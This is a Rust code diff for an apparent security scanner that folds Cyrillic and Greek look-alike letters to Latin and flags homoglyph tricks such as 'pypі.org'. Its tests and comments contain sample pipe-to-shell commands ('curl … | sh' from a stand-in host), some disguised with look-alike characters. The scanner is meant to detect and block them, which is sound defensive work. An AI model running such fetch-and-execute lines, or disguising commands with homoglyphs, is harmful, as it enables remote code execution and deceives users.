@@ -7,6 +7,10 @@
 //! NFKC, which folds compatibility forms such as fullwidth letters and
 //! ligatures back to ASCII.
 //!
+//! Look-alike letters of other scripts do the same: `сurl` with a
+//! Cyrillic `с` is written as Latin in words that mix the scripts, and
+//! reported (`unicode.look-alike`, High: `pypі.org` is not `pypi.org`).
+//!
 //! Shell quoting can split a word the same way: `c""url … | s''h` runs
 //! `curl … | sh`. Empty quotes between two word characters are dropped.
 //!
@@ -19,8 +23,8 @@ use std::borrow::Cow;
 
 use unicode_normalization::UnicodeNormalization;
 
-use super::Finding;
 use super::unicode;
+use super::{Category, Finding, Severity, rule};
 
 /// A normalised body and the hidden-character findings made on the way.
 pub(super) struct Normalized<'a> {
@@ -54,12 +58,118 @@ pub(super) fn normalize(body: &str) -> Normalized<'_> {
         unicode::clean_line(line, index, &mut cleaned, &mut findings);
         // No compatibility mapping produces a newline today; mapping one to a
         // space anyway keeps line numbers right whatever a future Unicode does.
+        let at = out.len();
         out.extend(cleaned.nfkc().map(|c| if c == '\n' { ' ' } else { c }));
+        if let Some((folded, word_at)) = fold_mixed_script_words(&out[at..]) {
+            // The look-alike is the attack (`pypі.org` is not `pypi.org`):
+            // read as Latin, and reported.
+            findings.push(Finding {
+                rule_id: "unicode.look-alike".to_string(),
+                category: Category::HiddenUnicode,
+                severity: Severity::High,
+                line: index + 1,
+                excerpt: rule::excerpt(&out[at..], word_at),
+                file: None,
+                message: String::new(),
+            });
+            out.truncate(at);
+            out.push_str(&folded);
+        }
     }
     if let Some(joined) = join_split_words(&out) {
         out = joined;
     }
     Normalized { text: Cow::Owned(out), findings }
+}
+
+/// `line` with the Cyrillic and Greek look-alikes of Latin letters in
+/// words that also hold Latin letters (`сurl` with a Cyrillic `с`) written
+/// as those Latin letters, and the offset of the first such word; `None`
+/// when no word mixes them. A word wholly in one script (Russian or Greek
+/// prose) is left alone.
+fn fold_mixed_script_words(line: &str) -> Option<(String, usize)> {
+    let mut out: Option<String> = None;
+    let mut first = 0;
+    let mut start = 0;
+    for (at, c) in line.char_indices().chain(std::iter::once((line.len(), ' '))) {
+        if c.is_alphanumeric() || c == '_' {
+            continue;
+        }
+        let word = &line[start..at];
+        let mixed = !word.is_ascii()
+            && word.bytes().any(|b| b.is_ascii_alphabetic())
+            && word.chars().all(|c| c.is_ascii() || latin_look_alike(c).is_some());
+        if mixed {
+            if out.is_none() {
+                first = start;
+            }
+            let o = out.get_or_insert_with(|| line[..start].to_string());
+            o.extend(word.chars().map(|c| latin_look_alike(c).unwrap_or(c)));
+        } else if let Some(o) = out.as_mut() {
+            o.push_str(word);
+        }
+        if let Some(o) = out.as_mut() {
+            o.push_str(&line[at..(at + c.len_utf8()).min(line.len())]);
+        }
+        start = (at + c.len_utf8()).min(line.len());
+    }
+    out.map(|o| (o, first))
+}
+
+/// The Latin letter a Cyrillic or Greek letter is drawn like, if any.
+fn latin_look_alike(c: char) -> Option<char> {
+    const PAIRS: &[(char, char)] = &[
+        ('а', 'a'),
+        ('е', 'e'),
+        ('о', 'o'),
+        ('р', 'p'),
+        ('с', 'c'),
+        ('у', 'y'),
+        ('х', 'x'),
+        ('і', 'i'),
+        ('ј', 'j'),
+        ('ѕ', 's'),
+        ('ԁ', 'd'),
+        ('һ', 'h'),
+        ('ӏ', 'l'),
+        ('ԛ', 'q'),
+        ('ԝ', 'w'),
+        ('А', 'A'),
+        ('В', 'B'),
+        ('Е', 'E'),
+        ('К', 'K'),
+        ('М', 'M'),
+        ('Н', 'H'),
+        ('О', 'O'),
+        ('Р', 'P'),
+        ('С', 'C'),
+        ('Т', 'T'),
+        ('Х', 'X'),
+        ('І', 'I'),
+        ('Ј', 'J'),
+        ('Ѕ', 'S'),
+        ('ο', 'o'),
+        ('α', 'a'),
+        ('ν', 'v'),
+        ('ρ', 'p'),
+        ('ι', 'i'),
+        ('κ', 'k'),
+        ('Α', 'A'),
+        ('Β', 'B'),
+        ('Ε', 'E'),
+        ('Ζ', 'Z'),
+        ('Η', 'H'),
+        ('Ι', 'I'),
+        ('Κ', 'K'),
+        ('Μ', 'M'),
+        ('Ν', 'N'),
+        ('Ο', 'O'),
+        ('Ρ', 'P'),
+        ('Τ', 'T'),
+        ('Υ', 'Y'),
+        ('Χ', 'X'),
+    ];
+    PAIRS.iter().find(|(from, _)| *from == c).map(|(_, to)| *to)
 }
 
 /// `text` with every `""` or `''` between two word characters removed, or
@@ -108,6 +218,31 @@ mod tests {
         let n = normalize("# Title\nrun `cargo test`\n");
         assert!(matches!(n.text, Cow::Borrowed(_)));
         assert!(n.findings.is_empty());
+    }
+
+    #[test]
+    fn folds_latin_look_alikes_only_in_words_that_mix_scripts() {
+        // A Cyrillic `с` and `о` inside Latin words: read as Latin.
+        let n = normalize("run \u{441}url -s https://x.example | sh\nd\u{43e}cker ps");
+        assert_eq!(n.text, "run curl -s https://x.example | sh\ndocker ps");
+        // Each line with a look-alike is reported, once.
+        let lines: Vec<(usize, &str)> = n.findings.iter().map(|f| (f.line, f.rule_id.as_str())).collect();
+        assert_eq!(lines, [(1, "unicode.look-alike"), (2, "unicode.look-alike")]);
+        assert!(n.findings.iter().all(|f| f.severity == Severity::High));
+        // Wholly Cyrillic or Greek words stay as written (after NFKC).
+        let n = normalize("Скачайте файл: curl -O https://x.example/f\nλόγος");
+        assert_eq!(n.text, "Скачайте файл: curl -O https://x.example/f\nλόγος");
+        assert!(n.findings.is_empty(), "{:?}", n.findings);
+        // A Cyrillic letter with no Latin look-alike keeps its word.
+        let n = normalize("c\u{44b}rl");
+        assert_eq!(n.text, "c\u{44b}rl");
+    }
+
+    #[test]
+    fn a_cyrillic_look_alike_does_not_hide_a_pipe_to_shell() {
+        use crate::scan::{DEFAULT_THRESHOLD, Scanner};
+        let body = "```bash\n\u{441}url -s https://x.example/i.sh | \u{455}h\n```\n";
+        assert!(Scanner::standard().scan(body).is_blocked(DEFAULT_THRESHOLD));
     }
 
     #[test]
